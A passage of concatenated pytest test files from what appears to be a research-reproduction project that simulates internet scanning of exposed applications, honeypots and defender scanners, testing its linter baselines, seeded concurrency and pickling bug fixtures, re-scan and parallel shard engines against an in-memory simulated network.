            "repro.net.Shard",
            "repro.net.Transport",
            "repro.net.ChaosTransport",
        }


class TestInheritance:
    def test_methods_resolve_through_the_static_mro(self, tmp_path):
        root = make_tree(tmp_path, {"mod.py": (
            "class Base:\n"
            "    def work(self):\n"
            "        return 1\n"
            "\n"
            "\n"
            "class Child(Base):\n"
            "    pass\n"
        )})
        graph = CallGraph(root)
        child = graph.resolve_class("repro.mod.Child")
        resolved = graph.resolve_method(child, "work")
        assert resolved is not None
        assert resolved.qualname == "repro.mod.Base.work"


class TestRobustness:
    def test_unparseable_files_are_recorded_not_fatal(self, tmp_path):
        root = make_tree(tmp_path, {
            "good.py": "def f():\n    return 1\n",
            "bad.py": "def broken(:\n",
        })
        graph = CallGraph(root)
        assert graph.modules["repro.bad"].parse_error
        assert "repro.good.f" in graph.functions

    def test_real_tree_builds_and_seeds_the_known_entries(self):
        import repro

        graph = CallGraph(Path(repro.__file__).resolve().parent)
        entries = {
            (fn.qualname, owner)
            for fn, owner in graph.registry_entry_points()
        }
        assert (
            "repro.core.parallel.ShardRunner.run",
            "repro.core.parallel.ShardRunner",
        ) in entries
        assert ("repro.core.parallel._process_shard", None) in entries
        # the supervised runner inherits run; the registry entry resolves
        # to the base def with the subclass as the concrete receiver
        assert (
            "repro.core.parallel.ShardRunner.run",
            "repro.core.supervisor.SupervisedShardRunner",
        ) in entries
        boundary = set(graph.boundary_classes())
        assert "repro.core.parallel.ShardRunner" in boundary
