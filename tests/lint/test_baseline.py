"""Baseline file edge cases: malformed input, versioning, staleness."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from repro.lint.baseline import BASELINE_VERSION, Baseline
from repro.lint.cli import main
from repro.lint.findings import Finding


def finding(rule="DET001", path="repro/x.py", line=3, message="m"):
    return Finding(path=path, line=line, rule=rule, message=message)


class TestLoad:
    def test_missing_file_is_an_empty_baseline(self, tmp_path):
        baseline = Baseline.load(tmp_path / "absent.json")
        assert baseline.fingerprints == frozenset()

    def test_malformed_json_raises_value_error(self, tmp_path):
        path = tmp_path / "baseline.json"
        path.write_text("{not json")
        with pytest.raises(ValueError, match="malformed baseline"):
            Baseline.load(path)

    def test_non_object_payload_raises_value_error(self, tmp_path):
        path = tmp_path / "baseline.json"
        path.write_text('["just", "a", "list"]')
        with pytest.raises(ValueError, match="expected an object"):
            Baseline.load(path)

    def test_unknown_version_raises_value_error(self, tmp_path):
        path = tmp_path / "baseline.json"
        path.write_text(json.dumps(
            {"version": BASELINE_VERSION + 1, "fingerprints": []}
        ))
        with pytest.raises(ValueError, match="unsupported baseline version"):
            Baseline.load(path)

    def test_missing_version_raises_value_error(self, tmp_path):
        path = tmp_path / "baseline.json"
        path.write_text('{"fingerprints": []}')
        with pytest.raises(ValueError, match="unsupported baseline version"):
            Baseline.load(path)

    def test_non_list_fingerprints_raise_value_error(self, tmp_path):
        path = tmp_path / "baseline.json"
        path.write_text(json.dumps(
            {"version": BASELINE_VERSION, "fingerprints": {"a": 1}}
        ))
        with pytest.raises(ValueError, match="list of strings"):
            Baseline.load(path)

    def test_non_string_fingerprint_entries_raise_value_error(self, tmp_path):
        path = tmp_path / "baseline.json"
        path.write_text(json.dumps(
            {"version": BASELINE_VERSION, "fingerprints": ["ok", 7]}
        ))
        with pytest.raises(ValueError, match="list of strings"):
            Baseline.load(path)

    def test_duplicate_fingerprints_collapse_to_one(self, tmp_path):
        path = tmp_path / "baseline.json"
        fp = finding().fingerprint()
        path.write_text(json.dumps(
            {"version": BASELINE_VERSION, "fingerprints": [fp, fp, fp]}
        ))
        baseline = Baseline.load(path)
        assert baseline.fingerprints == frozenset({fp})
        # and a save round-trip writes the deduplicated form
        baseline.save(path)
        assert json.loads(path.read_text())["fingerprints"] == [fp]


class TestStaleness:
    def test_fingerprint_ignores_line_numbers(self):
        a = finding(line=3)
        b = finding(line=300)
        assert a.fingerprint() == b.fingerprint()
        baseline = Baseline.from_findings([a])
        assert baseline.new_findings([b]) == []

    def test_stale_fingerprints_are_the_fixed_debt(self):
        kept = finding(rule="DET001")
        fixed = finding(rule="DET005", path="repro/y.py")
        baseline = Baseline.from_findings([kept, fixed])
        assert baseline.stale_fingerprints([kept]) == [fixed.fingerprint()]
        assert baseline.stale_fingerprints([kept, fixed]) == []


CLOCK_USER = "import time\n\ndef stamp():\n    return time.time()\n"


class TestCliRoundTrip:
    """--update-baseline must shed stale entries, and the CLI must
    surface / optionally gate on them before it does."""

    @pytest.fixture
    def tree(self, tmp_path: Path) -> Path:
        root = tmp_path / "repro"
        root.mkdir()
        (root / "clockuser.py").write_text(CLOCK_USER)
        return root

    def run(self, args, capsys):
        code = main(args)
        captured = capsys.readouterr()
        return code, captured.out

    def test_stale_entries_surface_and_update_baseline_sheds_them(
        self, tree, tmp_path, capsys, monkeypatch
    ):
        monkeypatch.chdir(tmp_path)
        baseline = tmp_path / "baseline.json"
        args = ["--root", str(tree), "--no-corpus", "--no-cache",
                "--baseline", str(baseline)]
        code, _ = self.run(args + ["--update-baseline"], capsys)
        assert code == 0
        before = json.loads(baseline.read_text())["fingerprints"]
        det_entries = [fp for fp in before if fp.startswith("DET001")]
        assert det_entries

        # fix the violation: only its fingerprint goes stale (the tree's
        # structural LNT001 findings keep firing and stay baselined)
        (tree / "clockuser.py").write_text("def stamp():\n    return 0.0\n")

        code, out = self.run(args + ["--format", "json"], capsys)
        assert code == 0  # stale alone is not a failure by default
        report = json.loads(out)
        assert report["stale_baseline_fingerprints"] == det_entries

        code, _ = self.run(args + ["--fail-on-stale"], capsys)
        assert code == 1

        # stale entries survive --out too (the report carries them)
        out_file = tmp_path / "report.json"
        code, _ = self.run(
            args + ["--format", "json", "--out", str(out_file)], capsys
        )
        written = json.loads(out_file.read_text())
        assert written["stale_baseline_fingerprints"] == det_entries

        # the round-trip: --update-baseline sheds the fixed debt
        code, _ = self.run(args + ["--update-baseline"], capsys)
        assert code == 0
        after = json.loads(baseline.read_text())["fingerprints"]
        assert after == [fp for fp in before if fp not in det_entries]
        code, _ = self.run(args + ["--fail-on-stale"], capsys)
        assert code == 0

    def test_malformed_baseline_is_a_usage_error(
        self, tree, tmp_path, capsys, monkeypatch
    ):
        monkeypatch.chdir(tmp_path)
        bad = tmp_path / "baseline.json"
        bad.write_text("{oops")
        code = main(["--root", str(tree), "--no-corpus", "--no-cache",
                     "--baseline", str(bad)])
        assert code == 2
