"""Seeded PR-7 regression: the worker shared-counter race.

This is the shape ``core/parallel.py`` shipped with before the fix:
the thread-pool worker wrapper bumps an engine attribute from worker
threads, so the counter's trajectory — and anything derived from it —
depends on scheduling order.  The analyzer must flag the write both via
the dispatch-site audit (DET005) and via the whole-program worker
reachability graph (RACE002).
"""

from concurrent.futures import ThreadPoolExecutor, as_completed

WORKER_ENTRY_POINTS = (
    "repro.core.parallel.MiniEngine._run_shard",
)

PICKLE_BOUNDARY_TYPES = (
    "repro.core.parallel.MiniRunner",
)


class MiniRunner:
    """Stand-in shard runner: pure function of its shard."""

    def run(self, shard):
        return {"shard": shard, "hosts": len(shard)}


class MiniEngine:
    def __init__(self, runner, workers):
        self.runner = runner
        self.workers = workers
        self._shards_done = 0

    def run(self, shards):
        completed = {}
        with ThreadPoolExecutor(max_workers=self.workers) as pool:
            futures = {
                pool.submit(self._run_shard, shard): index
                for index, shard in enumerate(shards)
            }
            for future in as_completed(futures):
                completed[futures[future]] = future.result()
        return [completed[index] for index in sorted(completed)]

    def _run_shard(self, shard):
        result = self.runner.run(shard)
        self._shards_done += 1  # the seeded bug: a worker-side write
        return result
