"""Seeded PR-7 regression: main-process telemetry dragged through pickle.

Before the fix, ``ChaosTransport`` kept its reference to the parent
process's telemetry handle when pickled into a ``ShardRunner``: worker
processes then held (and under ``fork`` silently double-counted into) a
copy of main-process observability state.  The fixed class nulls the
handle in ``__getstate__``; this fixture reintroduces the original
shape — a boundary-crossing transport binding ``self.telemetry`` with
no ``__getstate__`` at all — which the analyzer must flag (PKL002).
"""


class MiniChaosTransport:
    def __init__(self, inner, seed=0, telemetry=None):
        self.inner = inner
        self.seed = seed
        self.telemetry = telemetry  # the seeded bug: never stripped

    def fork(self, shard_seed, clock=None):
        return MiniChaosTransport(
            self.inner.fork(shard_seed, clock), seed=shard_seed,
        )

    def syn_probe(self, ip, port):
        if self.telemetry is not None:
            self.telemetry.metrics.counter("chaos_probes_total").inc()
        return self.inner.syn_probe(ip, port)
