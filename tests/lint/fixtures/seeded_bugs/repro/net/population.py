"""Seeded PR-7 regression: unpicklable lambda responders.

Before the fix, background servers were built with ``lambda`` request
handlers.  Generated internets travel whole across the process-pool
boundary (the transport — servers included — is pickled into each
worker), and local functions cannot be pickled: the sweep died at
runtime with ``Can't pickle <lambda>``.  The analyzer must flag the
stored lambda statically (PKL001).
"""


def _generic_page(flavour):
    return f"<html><body>{flavour}</body></html>"


class MiniServer:
    def __init__(self):
        self.responder = None


class MiniTransport:
    """Holds the generated servers; crosses the pickle boundary whole."""

    def __init__(self):
        self.servers = {}

    def fork(self, shard_seed, clock=None):
        clone = MiniTransport()
        clone.servers = self.servers
        return clone

    def add_background(self, ip, flavour):
        page = _generic_page(flavour)
        server = MiniServer()
        server.responder = lambda request: page  # the seeded bug
        self.servers[ip] = server
