"""Tests for the simulated commercial scanners (§5)."""

import pytest

from repro.defender.scanners import (
    FindingSeverity,
    make_scanner_1,
)
from repro.experiments.defenders import run_defender_study
from repro.util.clock import HOUR


@pytest.fixture(scope="module")
def study():
    return run_defender_study()


class TestScannerCoverage:
    def test_scanner1_detects_5_of_18(self, study):
        assert study.detected_count("Scanner 1") == 5
        assert study.detections()["Scanner 1"] == {
            "consul", "docker", "jupyter-notebook", "wordpress", "hadoop",
        }

    def test_scanner2_detects_3_of_18(self, study):
        assert study.detected_count("Scanner 2") == 3
        assert study.detections()["Scanner 2"] == {"consul", "docker", "jenkins"}

    def test_scanner2_informational_findings(self, study):
        informational = study.informational()["Scanner 2"]
        assert {"joomla", "phpmyadmin", "kubernetes", "hadoop"} <= informational

    def test_overlap_is_docker_and_consul(self, study):
        detections = study.detections()
        overlap = detections["Scanner 1"] & detections["Scanner 2"]
        assert overlap == {"consul", "docker"}

    def test_jupyterlab_missed_by_both(self, study):
        """The actively-exploited Jupyter Lab is invisible to defenders."""
        for slugs in study.detections().values():
            assert "jupyterlab" not in slugs

    def test_findings_are_real_probe_results(self, study):
        for run in study.runs.values():
            assert run.requests_sent > 0
            for finding in run.findings:
                if finding.severity is FindingSeverity.VULNERABILITY:
                    assert finding.slug in finding.target


class TestScanCost:
    def test_scanner2_takes_hours(self, study):
        # "the entire scan took several hours to complete"
        assert study.runs["Scanner 2"].duration_seconds > 3 * HOUR

    def test_scanner1_is_much_faster(self, study):
        assert (
            study.runs["Scanner 1"].duration_seconds
            < study.runs["Scanner 2"].duration_seconds / 3
        )


class TestScannerMechanics:
    def test_vulnerability_checks_are_honest(self):
        """A scanner with a check for app X stays silent if X is secure."""
        from repro.honeypot.fleet import HoneypotFleet

        fleet = HoneypotFleet.deploy()
        fleet.go_live()
        # Secure the Docker honeypot; Scanner 1 must no longer flag it.
        fleet.machine("docker").app.secure()
        study = run_defender_study(fleet=fleet)
        assert "docker" not in study.detections()["Scanner 1"]

    def test_dark_target_produces_no_findings(self):
        from repro.net.ipv4 import IPv4Address
        from repro.net.network import SimulatedInternet
        from repro.net.transport import InMemoryTransport

        scanner = make_scanner_1()
        run = scanner.scan_host(
            InMemoryTransport(SimulatedInternet()),
            "ghost-host", IPv4Address.parse("93.184.216.90"), 80,
        )
        assert run.findings == []

    def test_table_renders(self, study):
        text = study.table().render()
        assert "Scanner 1" in text and "Scanner 2" in text
