"""Tests for the 'too slow to matter' defender analysis (§5 anecdote)."""

import pytest

from repro.experiments.defenders import mid_scan_compromises


class TestVisitWindows:
    def test_windows_cover_all_targets(self, defender_study):
        for run in defender_study.runs.values():
            assert len(run.visit_windows) == 18

    def test_windows_are_sequential(self, defender_study):
        run = defender_study.runs["Scanner 2"]
        windows = sorted(run.visit_windows.values())
        for (a_start, a_end), (b_start, b_end) in zip(windows, windows[1:]):
            assert a_end <= b_start + 1e-9

    def test_total_duration_matches_last_window(self, defender_study):
        run = defender_study.runs["Scanner 2"]
        assert max(end for _s, end in run.visit_windows.values()) == pytest.approx(
            run.duration_seconds
        )


class TestMidScanCompromises:
    def test_slow_scanner_is_overtaken(self, honeypot_study, defender_study):
        """Attacks land before Scanner 2 finishes the affected honeypots."""
        beaten = mid_scan_compromises(
            honeypot_study.attacks, defender_study.runs["Scanner 2"]
        )
        assert beaten >= 1  # Hadoop is hit within the first hour

    def test_slower_scanner_beaten_more(self, honeypot_study, defender_study):
        fast = mid_scan_compromises(
            honeypot_study.attacks, defender_study.runs["Scanner 1"]
        )
        slow = mid_scan_compromises(
            honeypot_study.attacks, defender_study.runs["Scanner 2"]
        )
        assert slow >= fast

    def test_scan_started_late_is_beaten_by_more_attacks(
        self, honeypot_study, defender_study
    ):
        run = defender_study.runs["Scanner 2"]
        at_start = mid_scan_compromises(honeypot_study.attacks, run, 0.0)
        a_week_in = mid_scan_compromises(
            honeypot_study.attacks, run, 7 * 24 * 3600.0
        )
        assert a_week_in > at_start

    def test_attacks_on_unscanned_hosts_ignored(self, defender_study):
        from repro.analysis.attacks import Attack

        ghost_attack = Attack("not-a-honeypot", 1, 0.0, 0.0, ["x"], {1})
        assert mid_scan_compromises(
            [ghost_attack], defender_study.runs["Scanner 1"]
        ) == 0
