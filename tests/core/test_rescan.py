"""Tests for the incremental re-scan engine.

The engine's whole contract is byte-identity: a recorded baseline must
serialise exactly like a plain sequential pipeline run, and an
incremental re-scan must serialise exactly like scanning the frame from
scratch — only cheaper.  Every test here compares full
``report_to_dict`` dumps, not summaries.
"""

import json

import pytest

from repro.apps.catalog import scanned_ports
from repro.core.checkpoint import Checkpointer
from repro.core.pipeline import ScanPipeline
from repro.core.rescan import (
    RescanEngine,
    load_rescan_state,
    save_rescan_state,
)
from repro.core.serialize import report_to_dict
from repro.net.intervals import CompressedPopulation
from repro.net.ipv4 import IPv4Address
from repro.net.population import PopulationModel, generate_internet
from repro.net.transport import InMemoryTransport
from repro.util.errors import ConfigError

SEED = 20210603


def dump(report) -> str:
    return json.dumps(report_to_dict(report), sort_keys=True)


@pytest.fixture(scope="module")
def world():
    """A private world: churn tests mutate it, so no session fixtures."""
    internet, _, _ = generate_internet(
        PopulationModel(awe_rate=0.001, vuln_rate=0.1, background_rate=1e-7)
    )
    transport = InMemoryTransport(internet)
    pop = CompressedPopulation.build(internet, 400_000, seed=SEED)
    return internet, transport, pop.frame, pop


@pytest.fixture(scope="module")
def engine(world):
    _, transport, _, _ = world
    return RescanEngine(transport, scanned_ports(), seed=SEED, batch_size=4096)


@pytest.fixture(scope="module")
def baseline(engine, world):
    _, _, frame, _ = world
    return engine.baseline(frame)


def fresh_oracle(world):
    _, transport, frame, _ = world
    pipe = ScanPipeline(transport, scanned_ports(), seed=SEED, batch_size=4096)
    return pipe.run(frame)


class TestBaseline:
    def test_matches_sequential_pipeline_byte_for_byte(self, baseline, world):
        assert dump(baseline.report) == dump(fresh_oracle(world))

    def test_coverage_reconciles(self, baseline):
        baseline.report.coverage.reconcile(baseline.report)

    def test_records_cover_stage_i_survivors(self, baseline):
        assert set(baseline.records) == set(baseline.report.port_scan.open_ports)


class TestZeroChurn:
    def test_rescan_is_byte_identical(self, engine, baseline, world):
        _, _, frame, _ = world
        second = engine.rescan(frame, baseline)
        assert dump(second.report) == dump(baseline.report)
        second.report.coverage.reconcile(second.report)

    def test_rescan_sends_no_http_traffic(self, engine, baseline, world):
        _, transport, frame, _ = world
        before = transport.stats.http_requests
        engine.rescan(frame, baseline)
        assert transport.stats.http_requests == before

    def test_over_hinting_is_safe(self, engine, baseline, world):
        _, _, frame, pop = world
        live = pop.live_values()
        hinted = engine.rescan(frame, baseline, churned_blocks=[live[0], live[-1]])
        assert dump(hinted.report) == dump(baseline.report)


class TestChurn:
    def test_port_level_churn_is_self_detected(self, engine, baseline, world):
        # Removing a host changes its stage-I picture; the diff must
        # catch it with no churn hint at all.
        internet, _, frame, pop = world
        live = pop.live_values()
        victim = IPv4Address(live[len(live) // 2])
        internet.remove_host(victim)
        rescanned = engine.rescan(frame, baseline)
        assert dump(rescanned.report) == dump(fresh_oracle(world))
        assert victim.value not in rescanned.report.port_scan.open_ports


class TestStatePersistence:
    def test_round_trip_then_rescan(self, engine, baseline, world, tmp_path):
        _, _, frame, _ = world
        path = tmp_path / "state.json"
        save_rescan_state(baseline, path)
        loaded = load_rescan_state(path)
        assert dump(loaded.report) == dump(baseline.report)
        assert loaded.frame == baseline.frame
        assert loaded.records.keys() == baseline.records.keys()
        rescanned = engine.rescan(frame, loaded)
        assert dump(rescanned.report) == dump(fresh_oracle(world))


class TestConfigGuards:
    def test_frame_mismatch_rejected(self, engine, baseline, world):
        _, _, frame, _ = world
        other = frame.take(len(frame) - 1)
        with pytest.raises(ConfigError):
            engine.rescan(other, baseline)

    def test_seed_mismatch_rejected(self, baseline, world):
        _, transport, frame, _ = world
        other = RescanEngine(transport, scanned_ports(), seed=SEED + 1)
        with pytest.raises(ConfigError):
            other.rescan(frame, baseline)

    def test_ports_mismatch_rejected(self, baseline, world):
        _, transport, frame, _ = world
        other = RescanEngine(transport, (80,), seed=SEED, batch_size=4096)
        with pytest.raises(ConfigError):
            other.rescan(frame, baseline)


class _Crashing(Checkpointer):
    def __init__(self, path, crash_after, every_batches=1):
        super().__init__(path, every_batches)
        self.saves = 0
        self.crash_after = crash_after

    def save(self, payload):
        super().save(payload)
        self.saves += 1
        if self.saves == self.crash_after:
            raise KeyboardInterrupt("simulated kill")


class TestResume:
    def test_rescan_kill_and_resume_bit_identical(
        self, engine, baseline, world, tmp_path
    ):
        _, _, frame, _ = world
        path = tmp_path / "rescan.ckpt"
        with pytest.raises(KeyboardInterrupt):
            engine.rescan(frame, baseline, checkpoint=_Crashing(path, 3))
        resumed = engine.rescan(frame, baseline, checkpoint=Checkpointer(path))
        assert dump(resumed.report) == dump(fresh_oracle(world))
        assert not path.exists()  # cleared after a completed run

    def test_baseline_kill_and_resume_bit_identical(
        self, engine, world, tmp_path
    ):
        _, _, frame, _ = world
        path = tmp_path / "baseline.ckpt"
        with pytest.raises(KeyboardInterrupt):
            engine.baseline(frame, checkpoint=_Crashing(path, 2))
        resumed = engine.baseline(frame, checkpoint=Checkpointer(path))
        assert dump(resumed.report) == dump(fresh_oracle(world))
