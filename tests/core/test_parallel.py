"""Tests for the sharded parallel scan engine.

The acceptance property: for a fixed seed, the serialized ScanReport and
the telemetry JSONL export are *byte-identical* for every worker count —
with a plain transport, under chaos faults, and across a kill-and-resume
through a shard-boundary checkpoint.
"""

import json

import pytest

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance, scanned_ports
from repro.core.checkpoint import Checkpointer
from repro.core.parallel import ParallelScanEngine, plan_shards
from repro.core.pipeline import ScanPipeline
from repro.core.retry import RetryPolicy
from repro.core.serialize import report_to_dict
from repro.net.chaos import ChaosTransport, FaultPlan
from repro.net.host import Host, Service
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import InMemoryTransport
from repro.util.clock import SimClock
from repro.util.errors import ConfigError

PLAN = FaultPlan(
    syn_loss=0.05, request_loss=0.05, reset_rate=0.02, truncate_rate=0.02,
    flap_rate=0.1, flap_down=120.0, flap_period=600.0,
)

APPS = (
    ("polynote", 8192), ("docker", 2375), ("hadoop", 8088), ("grav", 80),
    ("consul", 8500), ("zeppelin", 8080), ("nomad", 4646), ("ajenti", 8000),
    ("jenkins", 8080), ("adminer", 80), ("jupyterlab", 8888), ("phpmyadmin", 80),
)


def build_world(blocks: int = 6):
    """AWE hosts plus dead neighbours spread over several /24 blocks."""
    internet = SimulatedInternet()
    ips = []
    for index, (slug, port) in enumerate(APPS):
        ip = IPv4Address.parse(f"93.184.{100 + index % blocks}.{10 + index}")
        host = Host(ip)
        host.add_service(
            Service(port, app=AppInstance(create_instance(slug), port))
        )
        internet.add_host(host)
        ips.append(ip)
    # dead addresses exercise the silent-frame fast path in every shard
    for block in range(blocks):
        for offset in (1, 2, 3):
            ips.append(IPv4Address.parse(f"93.184.{100 + block}.{200 + offset}"))
    return internet, ips


def run_arm(workers, chaos=False, checkpoint=None, seed=7, shard_blocks=2,
            profile=False):
    """One sweep over a freshly built world; returns (report, pipeline)."""
    internet, ips = build_world()
    clock = SimClock()
    transport = InMemoryTransport(internet)
    if chaos:
        transport = ChaosTransport(transport, PLAN, seed=21, clock=clock)
    pipeline = ScanPipeline(
        transport, scanned_ports(), seed=seed, batch_size=3,
        fingerprint=False, workers=workers, shard_blocks=shard_blocks,
        retry_policy=RetryPolicy(max_attempts=3, base_delay=0.5, max_delay=4.0)
        if chaos else None,
        clock=clock, profile=profile,
    )
    report = pipeline.run(ips, checkpoint=checkpoint)
    return report, pipeline


def outputs(report, pipeline):
    """The two byte-comparable artifacts of a run."""
    return (
        json.dumps(report_to_dict(report), sort_keys=True),
        pipeline.telemetry.export_jsonl(),
    )


class TestPlanShards:
    def test_shards_are_slash24_aligned_and_sorted(self):
        _, ips = build_world()
        shards = plan_shards(ips, seed=7, shard_blocks=2)
        assert len(shards) >= 2
        seen = []
        for shard in shards:
            blocks = {ip.value & 0xFFFFFF00 for ip in shard.addresses}
            assert len(blocks) <= 2
            assert list(shard.addresses) == sorted(shard.addresses)
            seen.extend(sorted(blocks))
        assert seen == sorted(seen)  # canonical block order across shards

    def test_partition_is_exhaustive_and_disjoint(self):
        _, ips = build_world()
        shards = plan_shards(ips, seed=7, shard_blocks=2)
        flat = [ip for shard in shards for ip in shard.addresses]
        assert sorted(flat) == sorted(set(ips))

    def test_partition_ignores_candidate_order(self):
        _, ips = build_world()
        forward = plan_shards(ips, seed=7, shard_blocks=2)
        backward = plan_shards(list(reversed(ips)), seed=7, shard_blocks=2)
        assert [s.addresses for s in forward] == [s.addresses for s in backward]
        assert [s.seed for s in forward] == [s.seed for s in backward]

    def test_shard_seeds_are_distinct_and_seed_dependent(self):
        _, ips = build_world()
        shards = plan_shards(ips, seed=7, shard_blocks=1)
        seeds = [s.seed for s in shards]
        assert len(set(seeds)) == len(seeds)
        assert seeds != [s.seed for s in plan_shards(ips, seed=8, shard_blocks=1)]

    def test_reserved_addresses_are_dropped(self):
        ips = [IPv4Address.parse("93.184.100.1"), IPv4Address.parse("10.0.0.1")]
        shards = plan_shards(ips, seed=7)
        assert [ip for s in shards for ip in s.addresses] == [ips[0]]
        kept = plan_shards(ips, seed=7, exclude_reserved=False)
        assert len([ip for s in kept for ip in s.addresses]) == 2

    def test_shard_blocks_must_be_positive(self):
        with pytest.raises(ValueError):
            plan_shards([], seed=7, shard_blocks=0)


class TestWorkerCountInvariance:
    @pytest.mark.parametrize("chaos", [False, True], ids=["plain", "chaos"])
    def test_workers_4_is_byte_identical_to_workers_1(self, chaos):
        """The tentpole acceptance property."""
        one = outputs(*run_arm(workers=1, chaos=chaos))
        four = outputs(*run_arm(workers=4, chaos=chaos))
        assert four[0] == one[0]  # serialized ScanReport
        assert four[1] == one[1]  # telemetry JSONL

    def test_engine_matches_sequential_semantics(self):
        """Sharding may not change *what* is found, only how it is run."""
        parallel, _ = run_arm(workers=4)
        internet, ips = build_world()
        sequential = ScanPipeline(
            InMemoryTransport(internet), scanned_ports(), seed=7,
            batch_size=3, fingerprint=False,
        ).run(ips)
        assert (
            parallel.port_scan.addresses_scanned
            == sequential.port_scan.addresses_scanned
        )
        assert parallel.hosts_per_app() == sequential.hosts_per_app()
        assert parallel.mavs_per_app() == sequential.mavs_per_app()
        assert parallel.vulnerable_ips() == sequential.vulnerable_ips()

    def test_invalid_worker_count_rejected(self):
        _, pipeline = run_arm(workers=1)
        with pytest.raises(ValueError):
            ParallelScanEngine(pipeline, workers=0)


class TestProfileInvariance:
    """Profiling is observability, not behaviour: arming it must not
    perturb the canonical outputs, and its own canonical artifacts (the
    SimClock rollup and the flight recorder) must themselves be
    identical for every worker count."""

    def test_profiling_does_not_change_canonical_output(self):
        plain = outputs(*run_arm(workers=4, chaos=True))
        profiled = outputs(*run_arm(workers=4, chaos=True, profile=True))
        assert profiled == plain

    def test_rollup_and_flight_are_worker_count_invariant(self):
        """The acceptance sweep: workers 1, 2, 4, 8 under chaos."""
        def canonical(pipeline):
            from repro.obs.profile import ProfileRollup

            rollup = ProfileRollup.from_spans(pipeline.telemetry.tracer.finished)
            return (
                json.dumps(rollup.to_dict(), sort_keys=True),
                json.dumps(pipeline.telemetry.flight.to_dict(), sort_keys=True),
            )

        baseline_report, baseline_pipe = run_arm(
            workers=1, chaos=True, profile=True
        )
        expected_outputs = outputs(baseline_report, baseline_pipe)
        expected_profile = canonical(baseline_pipe)
        assert baseline_pipe.telemetry.flight.probes_seen > 0
        for workers in (2, 4, 8):
            report, pipeline = run_arm(
                workers=workers, chaos=True, profile=True
            )
            assert outputs(report, pipeline) == expected_outputs, workers
            assert canonical(pipeline) == expected_profile, workers

    def test_rollup_attributes_the_sweep_time(self):
        _, pipeline = run_arm(workers=4, chaos=True, profile=True)
        from repro.obs.profile import ProfileRollup

        rollup = ProfileRollup.from_spans(pipeline.telemetry.tracer.finished)
        assert rollup.root_total > 0  # chaos + retry advanced the SimClock
        assert rollup.attributed_fraction() >= 0.95

    def test_wall_book_is_populated_but_never_canonical(self):
        report, pipeline = run_arm(workers=4, chaos=True, profile=True)
        book = pipeline.wall_profile
        assert book.armed
        assert len(book.shards) == len(pipeline.shard_profiles) > 1
        assert book.elapsed() > 0
        assert book.dominant_path() is not None
        # wall numbers stay out of the two canonical artifacts
        report_json, telemetry_jsonl = outputs(report, pipeline)
        assert "wall" not in report_json
        assert "wall" not in telemetry_jsonl

    def test_profile_off_keeps_wall_book_empty(self):
        _, pipeline = run_arm(workers=4, chaos=True)
        assert not pipeline.wall_profile.armed
        assert pipeline.shard_profiles == {}


class SimulatedCrash(BaseException):
    """A kill signal; not an Exception so nothing downstream swallows it."""


class CrashingCheckpointer(Checkpointer):
    """Dies mid-sweep after a fixed number of successful saves."""

    def __init__(self, path, die_after_saves, **kwargs):
        super().__init__(path, **kwargs)
        self.die_after_saves = die_after_saves
        self.saves = 0

    def save(self, payload):
        super().save(payload)
        self.saves += 1
        if self.saves >= self.die_after_saves:
            raise SimulatedCrash(f"killed after {self.saves} saves")


class TestShardCheckpointResume:
    def test_kill_and_resume_is_byte_identical(self, tmp_path):
        """Kill a chaotic workers=4 sweep at a shard boundary, resume it,
        and get byte-identical report and telemetry."""
        expected = outputs(*run_arm(workers=4, chaos=True))
        crasher = CrashingCheckpointer(
            tmp_path / "scan.ckpt", die_after_saves=2, every_batches=1
        )
        with pytest.raises(SimulatedCrash):
            run_arm(workers=4, chaos=True, checkpoint=crasher)
        ckpt = Checkpointer(tmp_path / "scan.ckpt", every_batches=1)
        resumed = outputs(*run_arm(workers=4, chaos=True, checkpoint=ckpt))
        assert resumed[0] == expected[0]
        assert resumed[1] == expected[1]
        assert not ckpt.exists()  # success clears the checkpoint

    def test_kill_and_resume_with_profiling_is_byte_identical(self, tmp_path):
        """Profiling + flight recording stay on through the kill and the
        resume; the canonical outputs and the flight record still match
        an uninterrupted run."""
        expected_report, expected_pipe = run_arm(
            workers=4, chaos=True, profile=True
        )
        expected = outputs(expected_report, expected_pipe)
        crasher = CrashingCheckpointer(
            tmp_path / "scan.ckpt", die_after_saves=2, every_batches=1
        )
        with pytest.raises(SimulatedCrash):
            run_arm(workers=4, chaos=True, checkpoint=crasher, profile=True)
        ckpt = Checkpointer(tmp_path / "scan.ckpt", every_batches=1)
        resumed_report, resumed_pipe = run_arm(
            workers=4, chaos=True, checkpoint=ckpt, profile=True
        )
        assert outputs(resumed_report, resumed_pipe) == expected
        assert (
            resumed_pipe.telemetry.flight.to_dict()
            == expected_pipe.telemetry.flight.to_dict()
        )

    def test_resume_only_reexecutes_missing_shards(self, tmp_path):
        crasher = CrashingCheckpointer(
            tmp_path / "scan.ckpt", die_after_saves=2, every_batches=1
        )
        with pytest.raises(SimulatedCrash):
            run_arm(workers=4, chaos=True, checkpoint=crasher)
        payload = Checkpointer(tmp_path / "scan.ckpt").load()
        done = len(payload["shards"])
        assert done >= 2

        internet, ips = build_world()
        total = len(plan_shards(ips, seed=7, shard_blocks=2))
        forks = []
        clock = SimClock()

        class CountingChaos(ChaosTransport):
            def fork(self, shard_seed, clock=None):
                forks.append(shard_seed)
                return super().fork(shard_seed, clock)

        transport = CountingChaos(
            InMemoryTransport(internet), PLAN, seed=21, clock=clock
        )
        pipeline = ScanPipeline(
            transport, scanned_ports(), seed=7, batch_size=3,
            fingerprint=False, workers=4, shard_blocks=2,
            retry_policy=RetryPolicy(
                max_attempts=3, base_delay=0.5, max_delay=4.0
            ),
            clock=clock,
        )
        pipeline.run(ips, checkpoint=Checkpointer(tmp_path / "scan.ckpt"))
        assert len(forks) == total - done

    def test_resume_refuses_mismatched_config(self, tmp_path):
        crasher = CrashingCheckpointer(
            tmp_path / "scan.ckpt", die_after_saves=2, every_batches=1
        )
        with pytest.raises(SimulatedCrash):
            run_arm(workers=4, chaos=True, checkpoint=crasher)
        with pytest.raises(ConfigError):
            run_arm(workers=4, chaos=True,
                    checkpoint=Checkpointer(tmp_path / "scan.ckpt"), seed=8)
        with pytest.raises(ConfigError):
            run_arm(workers=4, chaos=True,
                    checkpoint=Checkpointer(tmp_path / "scan.ckpt"),
                    shard_blocks=3)
