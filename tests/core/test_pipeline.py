"""End-to-end tests of the three-stage pipeline against ground truth."""

import pytest

from repro.net.population import PAPER_PREVALENCE


class TestPipelineAccuracy:
    """The pipeline's verdicts versus the simulator's omniscient truth."""

